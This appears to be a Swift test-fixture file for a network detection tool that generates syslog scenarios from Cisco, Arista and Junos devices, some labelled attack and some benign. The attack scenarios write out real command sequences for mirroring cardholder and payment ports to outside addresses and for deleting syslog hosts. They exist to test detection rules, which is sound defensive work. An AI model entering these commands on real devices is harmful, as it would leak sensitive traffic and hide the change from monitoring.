import Mirrorwatch

/// Network-device scenarios as relayed syslog: Cisco IOS command logs (CFGLOG), NX-OS and Arista
/// EOS accounting, Junos `UI_CMDLINE_READ_LINE`; IOS also starts from a RANCID snapshot.
enum DeviceExercises {
    static func scenarios(_ setup: ExerciseSetup) -> [ExerciseScenario] {
        ios(setup) + nxos(setup) + eos(setup) + junos(setup)
    }

    static func syslog(_ lines: [String]) -> [String: String] { ["devices/syslog/relay-2026-11-03.log": lines.joined(separator: "\n") + "\n"] }

    static func ticket(_ id: String, _ device: String, _ user: String) -> [String: String] {
        ["tickets/change_request.csv": "number,state,start_date,end_date,assigned_to,short_description,u_affected_resources\n"
            + "\(id),Implement,2026-11-03 09:00:00,2026-11-03 12:00:00,\(user)@example.com,SPAN to the NDR tap port,\(device)\n"]
    }

    static func s(_ platform: Platform, _ name: String, _ kind: ExerciseScenario.Kind, _ title: String, rules: [String] = [], files: [String: String]) -> ExerciseScenario {
        ExerciseScenario(id: "\(platform.rawValue).\(name)", platform: platform, kind: kind, title: title, expectedRules: rules, files: files)
    }

    static let exfiltration = [RuleID.externalDestination, RuleID.unapprovedDestination, RuleID.sensitiveSource]

    // MARK: Cisco IOS / IOS-XE

    static func ios(_ setup: ExerciseSetup) -> [ExerciseScenario] {
        let target = setup.devices[.ciscoIOS]!, device = target.device, port = target.approvedInterface ?? "Gi1/0/48"
        // Without an approved SPAN port on this device, the approved rollout is ERSPAN to an approved collector.
        let rollout: [(String, String)] = target.approvedInterface != nil
            ? [("09:30:00", "monitor session 4 source interface Gi1/0/2 both"), ("09:30:05", "monitor session 4 destination interface \(port)")]
            : [("09:30:00", "monitor session 4 type erspan-source"), ("09:30:03", "source interface Gi1/0/2"), ("09:30:05", "destination"),
               ("09:30:07", "erspan-id 104"), ("09:30:09", "ip address \(target.approvedAddress)"), ("09:30:11", "no shutdown")]
        func cmd(_ time: String, _ user: String, _ command: String) -> String {
            "Nov  3 \(time) \(device) 100: Nov  3 \(time).000 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:\(user)  logged command:\(command)"
        }
        let erspan = [cmd("10:00:01", "mallory", "monitor session 3 type erspan-source"), cmd("10:00:08", "mallory", "source interface \(target.sensitiveInterface)"),
                      cmd("10:00:14", "mallory", "destination"), cmd("10:00:20", "mallory", "erspan-id 100"),
                      cmd("10:00:26", "mallory", "ip address 203.0.113.50"), cmd("10:00:31", "mallory", "no shutdown")]
        let snapshot = ["devices/configs/2026-11-02/\(device).cfg": """
        !RANCID-CONTENT-TYPE: cisco
        hostname \(device)
        !
        monitor session 1 source interface \(target.sensitiveInterface) both
        monitor session 1 destination interface \(port)
        end

        """]
        let user = setup.deviceAuthorizedUser
        return [
            s(.ciscoIOS, "sensitive-to-external", .attack, "ERSPAN from the cardholder port to an outside address", rules: exfiltration, files: syslog(erspan)),
            s(.ciscoIOS, "repoint-approved-session", .attack, "The approved SPAN session is pointed at another port", rules: [RuleID.repointed],
              files: snapshot.merging(syslog([cmd("10:05:00", "mallory", "monitor session 1 destination interface Gi1/0/13")])) { a, _ in a }),
            s(.ciscoIOS, "create-then-delete", .attack, "The ERSPAN session is removed ten minutes later", rules: [RuleID.transient],
              files: syslog(erspan + [cmd("10:10:40", "mallory", "no monitor session 3")])),
            s(.ciscoIOS, "logging-off-first", .attack, "The syslog host is removed", rules: [RuleID.loggingTampered],
              files: syslog([cmd("09:58:00", "mallory", "no logging host 10.5.5.5")])),
            s(.ciscoIOS, "unusual-identity-no-ticket", .attack, "An unknown user adds a SPAN session to the tap port without a ticket",
              rules: [RuleID.unauthorizedActor, RuleID.noTicket],
              files: syslog([cmd("10:00:00", "mallory", "monitor session 4 source interface Gi1/0/2 both"), cmd("10:00:05", "mallory", "monitor session 4 destination interface \(port)")])),
            s(.ciscoIOS, "approved-rollout", .benign, "The network team adds a SPAN session to the tap port under a ticket",
              files: syslog(rollout.map { cmd($0.0, user, $0.1) }).merging(ticket("CHG-EX-4", device, user)) { a, _ in a }),
            s(.ciscoIOS, "ordinary-changes", .benign, "Interface descriptions change; nothing is mirrored",
              files: syslog([cmd("09:40:00", user, "interface Gi1/0/5"), cmd("09:40:04", user, "description uplink to dist-sw2")])),
        ]
    }

    // MARK: Cisco NX-OS

    static func nxos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
        let target = setup.devices[.ciscoNXOS]!
        func accounting(_ time: String, _ user: String, _ commands: String) -> String {
            "Tue Nov  3 \(time) 2026:type=update:id=198.51.100.23@pts/0:user=\(user):cmd=configure terminal ; \(commands) (SUCCESS)"
        }
        let erspan = accounting("10:00:00", "mallory", "monitor session 5 type erspan-source ; erspan-id 55 ; vrf default ; destination ip 203.0.113.50 ; source interface \(target.sensitiveInterface) both ; no shut")
        let user = setup.deviceAuthorizedUser
        let files = { (lines: [String]) in ["devices/syslog/\(target.device).accounting.log": lines.joined(separator: "\n") + "\n"] }
        return [
            s(.ciscoNXOS, "sensitive-to-external", .attack, "ERSPAN from the payments port to an outside address", rules: exfiltration, files: files([erspan])),
            s(.ciscoNXOS, "create-then-delete", .attack, "The ERSPAN session is removed ten minutes later", rules: [RuleID.transient],
              files: files([erspan, accounting("10:10:00", "mallory", "no monitor session 5")])),
            s(.ciscoNXOS, "approved-rollout", .benign, "ERSPAN to the collector farm under a ticket",
              files: files([accounting("09:30:00", user, "monitor session 6 type erspan-source ; erspan-id 66 ; vrf default ; destination ip \(target.approvedAddress) ; source interface Ethernet1/7 both ; no shut")])
                .merging(ticket("CHG-EX-5", target.device, user)) { a, _ in a }),
        ]
    }

    // MARK: Arista EOS

    static func eos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
        let target = setup.devices[.aristaEOS]!
        func accounting(_ time: String, _ user: String, _ task: Int, _ command: String) -> String {
            "Nov  3 \(time) \(target.device) Aaa: %ACCOUNTING-6-CMD: \(user) vty5 198.51.100.23 stop task_id=\(task) start_time=1762167730.0 timezone=UTC service=shell priv-lvl=15 cmd=\(command)"
        }
        let sensitive = target.sensitiveInterface
        let user = setup.deviceAuthorizedUser
        return [
            s(.aristaEOS, "sensitive-to-external", .attack, "A GRE monitor session from the edge port to an outside address", rules: exfiltration,
              files: syslog([accounting("10:00:00", "mallory", 11, "monitor session tapagg source \(sensitive) rx"),
                             accounting("10:00:09", "mallory", 12, "monitor session tapagg destination tunnel mode gre source 10.1.1.1 destination 198.51.100.77")])),
            s(.aristaEOS, "approved-rollout", .benign, "A monitor session to the tap port under a ticket",
              files: syslog([accounting("09:30:00", user, 21, "monitor session ndr source Ethernet4 both"),
                             accounting("09:30:05", user, 22, "monitor session ndr destination "
                                        + (target.approvedInterface ?? "tunnel mode gre source 10.1.1.1 destination \(target.approvedAddress)"))])
                .merging(ticket("CHG-EX-6", target.device, user)) { a, _ in a }),
        ]
    }

    // MARK: Junos

    static func junos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
        let target = setup.devices[.junos]!
        func cli(_ time: String, _ user: String, _ command: String) -> String {
            "Nov  3 \(time) \(target.device) mgd[4242]: UI_CMDLINE_READ_LINE: User '\(user)', command '\(command) '"
        }
        let user = setup.deviceAuthorizedUser
        return [
            s(.junos, "sensitive-to-external", .attack, "An analyzer copies the customer port to an outside address", rules: exfiltration,
              files: syslog([cli("10:00:01", "bob", "edit forwarding-options analyzer exfil"), cli("10:00:10", "bob", "set input ingress interface \(target.sensitiveInterface).0"),
                             cli("10:00:20", "bob", "set output ip-address 203.0.113.61"), cli("10:00:41", "bob", "commit")])),
            s(.junos, "logging-off-first", .attack, "The syslog host is deleted", rules: [RuleID.loggingTampered],
              files: syslog([cli("09:58:00", "bob", "delete system syslog host 10.5.5.5"), cli("09:58:10", "bob", "commit")])),
            s(.junos, "approved-rollout", .benign, "Port mirroring to the collector farm under a ticket",
              files: syslog([cli("09:30:01", user, "edit forwarding-options analyzer ndr"), cli("09:30:10", user, "set input ingress interface ge-0/0/7.0"),
                             cli("09:30:20", user, "set output ip-address \(target.approvedAddress)"), cli("09:30:41", user, "commit")]).merging(ticket("CHG-EX-7", target.device, user)) { a, _ in a }),
        ]
    }

    /// Interface flaps in each vendor's own words, for volume.
    static func background(platform: Platform, device host: String, count: Int, random: inout ExerciseRandom) -> [String: String] {
        guard count > 0 else { return [:] }
        let lines = (0..<count).map { _ -> String in
            let time = String(format: "Nov  3 %02d:%02d:%02d", 8 + random.below(8), random.below(60), random.below(60))
            let port = random.below(48) + 1, up = random.below(2) == 0
            switch platform {
            case .junos:
                return "\(time) \(host) mib2d[2301]: SNMP_TRAP_LINK_\(up ? "UP" : "DOWN"): ifIndex \(500 + port), ifAdminStatus up(1), ifOperStatus \(up ? "up(1)" : "down(2)"), ifName ge-0/0/\(port)"
            case .ciscoNXOS:
                return "\(time) \(host) %ETHPORT-5-IF_\(up ? "UP" : "DOWN_LINK_FAILURE"): Interface Ethernet1/\(port) is \(up ? "up in mode access" : "down (Link failure)")"
            case .aristaEOS:
                return "\(time) \(host) Ebra: %LINEPROTO-5-UPDOWN: Line protocol on Interface Ethernet\(port), changed state to \(up ? "up" : "down")"
            default:
                return "\(time) \(host) 90: \(time).000 UTC: %LINK-3-UPDOWN: Interface GigabitEthernet1/0/\(port), changed state to \(up ? "up" : "down")"
            }
        }
        return ["devices/syslog/background.log": lines.joined(separator: "\n") + "\n"]
    }
}
